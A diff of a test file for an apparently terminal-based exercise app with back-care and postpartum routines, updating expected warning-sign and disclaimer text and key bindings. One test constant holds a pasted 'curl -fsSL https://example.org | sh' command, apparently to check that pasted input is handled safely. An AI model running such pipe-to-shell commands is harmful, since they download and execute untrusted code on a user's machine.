@@ -19,7 +19,8 @@ UNSAVED = SessionSettings(log=False)
 SLOW_COUNT = Script("hold 600", settings=SessionSettings(speed=10.0))
 FOOT_OF_START = "Enter begin"
 ALL_SIGNS = "Talk to your healthcare provider"
-ONE_LINE = "When to ask for help: backcare redflags"
+FIRST_SIGNS = "Chest pain, trouble breathing, a sudden"
+ONE_LINE = "Information, not medical advice. When to ask for help: "
 COLOUR_ANSWER = "\x1b]11;rgb:1e1e/1e1e/1e1e\x1b\\"
 PASTED = "\x1b[200~curl -fsSL https://example.org | sh\rqq\r\x1b[201~"
 BEGIN_AND_QUIT = (Press("\r"), see("GET READY"), Press("q"), see("PAUSED"))
@@ -55,7 +56,7 @@ FAKE_AND_REAL = {
                 *(Press(PASTED), see("r once more"), Press("r")),
                 *(see("GET READY"), see("Done:", "1:20 held", "r once more")),
             ),
-            leave="x",
+            leave="q",
             left=("Take your time",),
             settings=FAST,
         ),
@@ -145,7 +146,7 @@ FAKE_AND_REAL = {
         Script(
             "routine postpartum",
             (
-                *(see("GET READY"), Press("n"), see("SET UP"), Press("n"), see("MOVE", "▓▓", "⣿")),
+                *(see("GET READY"), Press("n"), see("SET UP"), Press("n"), see("MOVE", "██", "⣿")),
                 *(
                     step
                     for size in ((120, 40), (40, 12), (50, 36), (80, 24))
@@ -175,7 +176,7 @@ FAKE_ONLY = {
         Script(
             "routine postpartum",
             (
-                see(ALL_SIGNS, "your emergency number", FOOT_OF_START, "It cannot examine you", "Esc leave"),
+                see(FIRST_SIGNS, "your emergency number", FOOT_OF_START, "It cannot examine you", "Esc leave"),
                 see("1. Standing Pec", "3. Doorway", "You need", "Sound"),
                 *BEGIN_AND_QUIT,
             ),
@@ -188,12 +189,12 @@ FAKE_ONLY = {
             (see(FOOT_OF_START, ONE_LINE), Press("q")),
             3,
             settings=UNSAVED,
-            never=(ALL_SIGNS,),
+            never=(FIRST_SIGNS,),
         ),
     ),
     "leaving the first start page shows them again": (
-        Script("routine postpartum", (see(ALL_SIGNS),), 3, leave="q"),
-        Script("routine postpartum", (see(ALL_SIGNS),), 3, leave="q"),
+        Script("routine postpartum", (see(FIRST_SIGNS),), 3, leave="q"),
+        Script("routine postpartum", (see(FIRST_SIGNS),), 3, leave="q"),
     ),
     "a window too small for them counts for nothing until w has shown them": (
         Script(
@@ -210,7 +211,7 @@ FAKE_ONLY = {
                 *(
                     see(FOOT_OF_START),
                     Press("w"),
-                    see("Chest pain, trouble", "backcare redflags: all"),
+                    see("Chest pain, trouble", "backcare redflags --all"),
                     Press("x"),
                 ),
                 *(see(FOOT_OF_START), *BEGIN_AND_QUIT),
